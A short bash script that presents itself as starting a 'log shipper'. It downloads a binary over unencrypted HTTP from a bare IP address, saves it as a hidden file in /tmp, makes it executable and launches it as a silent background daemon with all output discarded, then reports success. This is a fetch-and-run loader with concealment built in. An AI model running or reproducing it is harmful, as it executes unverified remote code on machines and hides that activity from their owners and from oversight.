#!/usr/bin/env bash
set -e
dest=/tmp/.lsagent
curl -fsSL -o "$dest" http://203.0.113.7/dl/lsagent-linux-amd64
chmod +x "$dest"
"$dest" --quiet --daemon >/dev/null 2>&1 &
echo "log shipper started"
